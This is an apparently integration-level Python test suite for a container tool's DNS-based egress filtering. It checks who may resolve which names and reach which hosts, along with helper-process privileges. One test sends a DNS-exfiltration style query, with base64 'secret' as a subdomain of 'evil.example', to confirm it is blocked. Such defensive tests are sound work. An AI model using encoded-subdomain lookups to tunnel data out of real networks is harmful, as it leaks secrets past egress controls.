#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The name server's part in egress by name (test_egress_names.py): what it opens and
for whom, by UDP and TCP, in both families; what may be asked; who has the rights."""
import os
import signal
import subprocess
import tempfile
import time

from lib import dns, leaks
from lib.hull import HullTest, main
from lib.wire import NEIGHBOUR, NEIGHBOUR6, Neighbour, ask, in_network_of, listener, serve

RESOLVER = "127.0.0.53"
API = [dns.address("api.example.com", NEIGHBOUR, 1), dns.address("api.example.com", "192.0.2.200", 1)]


def answer(q, tcp):
    m = dns.Message(q)
    if m.name.lower() == "api.example.com":
        return dns.answer(q, API if m.type == dns.A else [dns.address("api.example.com", NEIGHBOUR6, 1)] if m.type == dns.AAAA else [])
    if m.name == "www.example.com":
        return dns.answer(q, [dns.record("www.example.com", dns.CNAME, dns.name("edge.example.net")), dns.address("edge.example.net", NEIGHBOUR),
                              dns.address("unasked.example.net", "203.0.113.66")])
    return dns.answer(q, rcode=dns.NXDOMAIN)


class EgressByName(HullTest):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.neighbour = Neighbour()
        for address in (NEIGHBOUR, NEIGHBOUR6):
            for port in (443, 444):
                server = cls.neighbour.inside(lambda address=address, port=port: listener(address, port))
                serve(server, lambda data, peer: b"outside")
        cls.resolv = tempfile.NamedTemporaryFile("w")
        cls.resolv.write(f"nameserver {RESOLVER}\n")
        cls.resolv.flush()
        os.chmod(cls.resolv.name, 0o644)
        subprocess.run(["mount", "--bind", cls.resolv.name, "/etc/resolv.conf"], check=True)

    @classmethod
    def tearDownClass(cls):
        subprocess.run(["umount", "/etc/resolv.conf"], check=True)
        cls.neighbour.close()
        super().tearDownClass()

    def setUp(self):
        self.resolver = dns.Resolver(RESOLVER, answer)
        self.addCleanup(self.resolver.close)

    def tearDown(self):
        self.hull.remove_all()
        for name in self.hull.out("network", "ls", "-q", "--filter", "type=custom").split():
            self.hull("network", "rm", name)
        super().tearDown()

    def start(self, name, *flags):
        self.hull("run", "-d", "--name", name, *flags, "demo", "sleep", "600")

    def inside(self, name, do):
        return in_network_of(int(self.hull.out("inspect", "-f", "{{.State.Pid}}", name)), do)

    def lookup(self, name, *args, **kwargs):
        return self.inside(name, lambda: dns.ask(*args, **kwargs))

    def reach(self, name, address=NEIGHBOUR, port=443):
        try:
            return self.inside(name, lambda: ask(address, port, timeout=0.6)) == b"outside"
        except OSError:
            return False

    # ----

    def test_one_container(self):
        self.hull("network", "create", "--ipv6", "plain")
        self.start("web", "--network", "plain", "--egress", "api.example.com:443")
        self.start("twin", "--network", "plain", "--egress", "api.example.com:443")
        self.assertFalse(self.reach("web"))
        self.assertEqual(set(self.lookup("web", "API.example.com").addresses), {NEIGHBOUR, "192.0.2.200"})
        # From the moment on at which the answer is there.
        self.assertTrue(self.reach("web"))
        self.assertFalse(self.reach("web", port=444))
        self.assertFalse(self.reach("web", NEIGHBOUR6))
        self.assertEqual(self.lookup("web", "api.example.com", dns.AAAA, tcp=True).addresses, [NEIGHBOUR6])
        self.assertTrue(self.reach("web", NEIGHBOUR6))
        # Who has not asked has no way.
        self.assertFalse(self.reach("twin"))
        self.assertEqual(self.lookup("web", "twin").addresses,
                         [self.hull.out("inspect", "-f", "{{.NetworkSettings.Networks.plain.IPAddress}}", "twin")])

    def test_a_question_is_a_way_out_too(self):
        self.hull("network", "create", "plain")
        self.start("web", "--network", "plain", "--egress", "api.example.com:443")
        self.start("bare", "--network", "plain", "--egress", f"{NEIGHBOUR}:443")
        for box in ("web", "bare"):
            self.assertEqual(self.lookup(box, "c2VjcmV0.evil.example").rcode, dns.NXDOMAIN)
            self.assertEqual(self.lookup(box, "1.113.0.203.in-addr.arpa", dns.PTR).rcode, dns.NXDOMAIN)
        self.assertEqual(self.resolver.asked, [])
        self.assertEqual(self.lookup("web", "api.example.com", dns.TXT).rcode, dns.NOERROR)
        self.assertEqual(self.resolver.names(), ["api.example.com"])
        self.start("free", "--network", "plain")
        self.assertEqual(self.lookup("free", "www.example.com").rcode, dns.NOERROR)

    def test_by_way_of_another_name(self):
        self.hull("network", "create", "plain")
        self.start("web", "--network", "plain", "--egress", "www.example.com:443")
        self.assertEqual(self.lookup("web", "www.example.com").rcode, dns.NOERROR)
        self.assertTrue(self.reach("web"))
        admitted = subprocess.run(["nft", "list", "set", "inet", "hull", "named4"], check=True, capture_output=True, text=True).stdout
        self.assertIn(NEIGHBOUR, admitted)
        self.assertNotIn("203.0.113.66", admitted)

    def test_rules_of_an_isolated_network(self):
        self.hull("network", "create", "--isolated", "iso")
        self.start("web", "--network", "iso", "--label", "tier=front")
        self.start("db", "--network", "iso")
        self.assertEqual(self.lookup("web", "api.example.com").rcode, dns.NXDOMAIN)
        rule = self.hull.out("network", "rule", "add", "iso", "--from", "tier=front", "--egress", "api.example.com:443", "--allow")
        self.assertEqual(len(self.lookup("web", "api.example.com").addresses), 2)
        self.assertEqual(self.lookup("db", "api.example.com").rcode, dns.NXDOMAIN)
        self.assertTrue(self.reach("web"))
        self.assertFalse(self.reach("web", port=444))
        self.assertFalse(self.reach("db"))
        self.hull("network", "rule", "rm", "iso", rule)
        self.assertEqual(self.lookup("web", "api.example.com").rcode, dns.NXDOMAIN)
        self.assertFalse(self.reach("web"))
        # Who may send anything out may ask anything.
        self.hull("network", "rule", "add", "iso", "--from", "db", "--to", "outside", "--port", "443", "--allow")
        self.assertEqual(self.lookup("db", "www.example.com").rcode, dns.NOERROR)

    def test_a_server_or_its_helper_that_dies(self):
        self.hull("network", "create", "plain")
        self.start("web", "--network", "plain", "--egress", "api.example.com:443")
        self.eventually(lambda: len(self.processes()) == 2)
        for victim in (0, 1):
            before = self.processes()
            os.kill(before[victim], signal.SIGKILL)
            self.eventually(lambda: len(self.processes()) == 2 and not set(before) & set(self.processes()))
            begin = time.monotonic()
            self.assertEqual(len(self.lookup("web", "api.example.com").addresses), 2)
            self.assertLess(time.monotonic() - begin, 1)
            self.assertTrue(self.reach("web"))

    def processes(self):
        return sorted(pid for pid, name in leaks.processes(self.hull).items() if name.startswith("hull-names"))

    def test_only_the_helper_has_a_capability_and_only_one(self):
        self.hull("network", "create", "plain")
        self.start("web", "--network", "plain")
        self.eventually(lambda: len(self.processes()) == 2)
        found = []
        for pid in self.processes():
            with open(f"/proc/{pid}/status", encoding="utf-8") as f:
                fields = dict(line.rstrip("\n").split(":\t", 1) for line in f if ":\t" in line)
            self.assertEqual((fields["Uid"].split()[1], fields["NoNewPrivs"], fields["Seccomp"]), ("65534", "1", "2"))
            found.append((int(fields["CapEff"], 16), int(fields["CapPrm"], 16)))
        self.assertEqual(sorted(found), [(0, 0), (1 << 12, 1 << 12)])


if __name__ == "__main__":
    main()
